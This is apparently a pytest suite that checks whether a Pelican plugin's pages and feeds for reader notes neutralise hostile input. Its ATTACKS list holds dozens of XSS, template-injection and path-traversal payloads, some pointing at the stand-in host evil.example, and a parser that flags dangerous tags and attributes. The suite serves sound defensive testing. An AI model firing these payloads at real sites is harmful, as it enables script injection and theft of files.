"""A whole site of hostile notes: attack shapes in readers' turns and in every header, on pages and in feeds."""

from __future__ import annotations

import html
import random
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from render.conftest import Site, copy_of_tiny

ALERT = "document.title='RAN'"
ATTACKS = [
    f"<script>{ALERT}</script>", f"<img src=x onerror={ALERT}>", f"<svg onload={ALERT}>", f"<svg><script>{ALERT}</script></svg>",
    f"</title><script>{ALERT}</script>", f"</textarea><script>{ALERT}</script>", f'"><script>{ALERT}</script>', f"'><img src=x onerror={ALERT}>",
    f'" onmouseover="{ALERT}', f"' autofocus onfocus='{ALERT}", f"`` onload=`{ALERT}`", f"--><script>{ALERT}</script><!--",
    f"]]><script>{ALERT}</script>", f"&lt;script&gt;{ALERT}&lt;/script&gt;", f"&amp;lt;img src=x onerror={ALERT}&amp;gt;",
    f"<iframe src=\"javascript:{ALERT}\"></iframe>", "<iframe src=https://evil.example></iframe>", "<object data=https://evil.example></object>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ALERT}></style></mglyph></table></mtext></math>", f"<details open ontoggle={ALERT}>x",
    "<style>@import 'https://evil.example/x.css'</style>", '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<base href="https://evil.example/">', "<form action=https://evil.example><input name=x>",
    "![pixel](https://evil.example/p.png)", '<img src="https://evil.example/p.png">', '<video poster="https://evil.example/p.png">', '<p style="background:url(https://evil.example)">',
    f"[x](javascript:{ALERT})", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x)", "<javascript:alert(1)>", "[x](&#106;avascript:alert(1))",
    "[x]({attach}/../../../secret.txt)", "[x]({static}/secret.txt)", "[x](|static|/secret.txt)", "[x][y]\n\n[y]: {static}/secret.txt", "<a href='{attach}../secret.txt'>x</a>",
    "{static}/secret.txt", "{{ 7*7 }}{% raw %}{# x #}", "{{ config }}", '[x](https://a.example "onmouseover=1 {{7*7}}")', "[x](https://a.example/{{7*7}}|{static})",
    "a {: onclick=alert(1) #id .class}", "\\<script>x\\</script>", "<!--gratitude:box-->", "<scr<script>ipt>x</script>", "<a href=//evil.example>x</a>", "<b id=x name=y>x</b>",
    f"[code]<script>{ALERT}</script>[/code]", f"<pre onclick={ALERT}>x\ny</pre>", f"<blockquote cite='javascript:{ALERT}'>x</blockquote>", f"<code><img src=x onerror={ALERT}></code>",
    f"```html\n</code></pre><script>{ALERT}</script>\n```", f"    $ echo '<script>{ALERT}</script>'", f"$ x </pre><script>{ALERT}</script>", f"[bash]</pre><img src=x onerror={ALERT}>\n[/bash]",
]  # fmt: skip
"""Invented after the classes that are known: each tag that runs or fetches, each way out of a text, a title, an
attribute, a comment, CDATA, each scheme, Pelican's own links, template tags, Markdown's attributes, tags of old boxes."""

RUNS = {"script", "iframe", "object", "embed", "math", "base", "form", "img", "video", "audio", "style"}
LOADS = {"src", "href", "action", "formaction", "data", "poster", "cite", "background", "http-equiv"}
"""Attributes that a browser or Pelican follows."""

HEADERS = ("Title", "From", "Place")
DAY = "2026-01-02"


class Notes(HTMLParser):
    """What stands inside our own blocks, and anywhere on the page where no theme would put it."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.wrong: list[object] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # the rosette beside a name, the filter of the questions and the data for machines are ours
        ours = (
            ("class", "g-face") in attrs
            or attrs == [("type", "application/ld+json")]
            or (tag == "script" and "/gratitude/" in (dict(attrs).get("src") or ""))
        )
        for name, value in attrs:
            at = (value or "").strip().lower()
            wrong = (
                name.startswith("on")
                or name in ("style", "http-equiv")
                or at.startswith(("javascript:", "data:", "vbscript:"))
            )
            wrong = wrong or (name in LOADS and ("secret.txt" in at or at.startswith(("{", "|"))))
            if wrong or (name in LOADS and tag != "a" and "evil.example" in at):
                self.wrong.append((tag, name, value))
        if tag in {*RUNS, "svg"} and not ours:
            self.wrong.append(tag)


def one_line(attack: str) -> str:
    return " ".join(attack.split())


def notes_of(site: Site) -> int:
    """Write a note for each attack in a turn, and one for each in a header; return how many. The draw is seeded."""
    draw = random.Random(52)
    shuffled = draw.sample(ATTACKS, len(ATTACKS))
    places = ["", "boiler", "tides"]
    for i, attack in enumerate(ATTACKS):
        kind = draw.choice(["thanks", "question", "correction"])
        head = f"Kind: {kind}\nShow: anonymous\nVia: mail\n"
        around = attack if i % 2 else f"Good morning,\n\n{attack}\n\nand thank you."
        site.note(f"{places[i % 3]}/{DAY}-t{i:03}.note", f"{head}\n{around}\n")
        header = HEADERS[i % len(HEADERS)]
        value = one_line(shuffled[i])
        named = value if header == "From" else "Ann"
        more = "" if header == "From" else f"{header}: {value}\n"
        head = f"Kind: {kind}\n{more}From: {named}\nShow: named\nVia: comment\n"
        site.note(f"{places[(i + 1) % 3]}/{DAY}-h{i:03}.note", f"{head}\nIt helped.\n")
    return 2 * len(ATTACKS)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """The tiny site with nothing but hostile notes, all feeds on, and two files that nobody may publish."""
    site = copy_of_tiny(tmp_path_factory.mktemp("hostile"), notes=False)
    notes_of(site)
    site.write("content/secret.txt", "SECRET-INSIDE")
    site.write("secret.txt", "SECRET-OUTSIDE")
    site.configure(
        'GRATITUDE_FEED_ATOM = "feeds/thanks.atom.xml"\nGRATITUDE_QUESTIONS_FEED_ATOM = "feeds/questions.atom.xml"\n'
        'GRATITUDE_FEED_JSON = "feeds/thanks.json"\nGRATITUDE_POST_FEED_ATOM = "feeds/{slug}.atom.xml"\n'
    )
    said = site.build()
    assert "could not" not in said.lower(), said
    return site


def documents(site: Site) -> Iterator[tuple[str, str]]:
    """Yield every page, and every piece of a feed or of data that somebody may read as HTML."""
    for path, data in site.tree().items():
        if path.endswith(".html"):
            yield path, data.decode()
        elif path.endswith(".xml"):
            for element in ET.fromstring(data).iter():
                yield from (
                    (f"{path} {element.tag}", text) for text in (element.text, *element.attrib.values()) if text
                )


def test_nothing_runs_and_nothing_is_fetched(hostile: Site) -> None:
    """No tag, attribute or address of any attack is in the document of any page, or of anything a feed holds."""
    clean = copy_of_tiny(Path(hostile.root).parent / "clean", notes=False)
    clean.build()
    themes = {path: Notes(text).wrong for path, text in documents(clean)}

    found = {path: [w for w in Notes(text).wrong if w not in themes.get(path, ())] for path, text in documents(hostile)}
    assert {} == {path: wrong for path, wrong in found.items() if wrong}


@pytest.mark.slow
def test_a_browser_runs_nothing_and_asks_nobody(hostile: Site, program: Callable[[str, str], str]) -> None:
    """Chromium opens our pages, and what feeds hold read as HTML: no title changes, and no other host is asked."""
    path = program("chromium", "chromium")
    from playwright.sync_api import sync_playwright

    ours = {
        name: data
        for name, data in hostile.tree().items()
        if name.startswith(("who-", "questions/", "boiler/", "tides/"))
    }
    pages = [name for name in ours if name.endswith("index.html")]
    feeds = [text for name, text in documents(hostile) if name.startswith("feeds/") and "<" in text]
    ran: list[str] = []
    asked: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=["--headless", "--no-sandbox", "--disable-gpu"])
        window = browser.new_page()

        def answer(route: Any) -> None:
            url = urlsplit(route.request.url)
            if url.hostname != "harbour.example":
                asked.append(route.request.url)
            body = {"/probe": f"<script>{ALERT}</script>", "/feeds": "".join(feeds)}.get(url.path, "")
            name = url.path.lstrip("/")
            route.fulfill(
                body=body or ours.get(name, b""), content_type="text/html" if not name.endswith(".css") else "text/css"
            )

        window.route("**/*", answer)
        for name in ["probe", "feeds", *pages]:
            window.goto(f"https://harbour.example/{name}")
            ran += [name] if window.title() == "RAN" else []
        browser.close()

    assert ran == ["probe"]
    assert asked == []


def test_the_check_would_tell() -> None:
    """Most of the attacks are seen as what they are where nobody cleans them."""
    seen = [attack for attack in ATTACKS if Notes(attack).wrong]

    assert len(seen) > len(ATTACKS) // 2
    assert Notes(f"<p>{html.escape(ATTACKS[0])}").wrong == []


def test_no_file_is_published_and_no_template_runs(hostile: Site) -> None:
    """Pelican finds no link of its own in a reader's words, and no plugin a template tag."""
    assert hostile.anywhere("SECRET-INSIDE") == hostile.anywhere("SECRET-OUTSIDE") == []
    assert [tag for tag in ("{{ 7*7", "{{7*7", "{{ config", "{%", "{# x") if hostile.anywhere(tag)] == []


def test_every_note_is_there(hostile: Site) -> None:
    """Nothing was skipped: a hostile note is a note."""
    pages = "".join(text for path, text in documents(hostile) if path.endswith(".html"))

    assert [] == [f"{kind}{i:03}" for i in range(len(ATTACKS)) for kind in "th" if f"{DAY}-{kind}{i:03}" not in pages]


@pytest.mark.parametrize("code", [*range(9), 11, 12, *range(14, 32), 0x7F, 0x85, 0x2028, 0x202E, 0xFFFE, 0xFFFF])
def test_control_characters_leave_the_words(code: int) -> None:
    """A character that XML forbids, or that hides or turns others, is gone from HTML; the words around it are not."""
    from gratitude.render.words import reader_html

    rendered = reader_html(f"good{chr(code)} *morning*{chr(code)} `x{chr(code)}y`")

    assert chr(code) not in rendered
    assert "good" in rendered
    assert "<em>morning</em>" in rendered
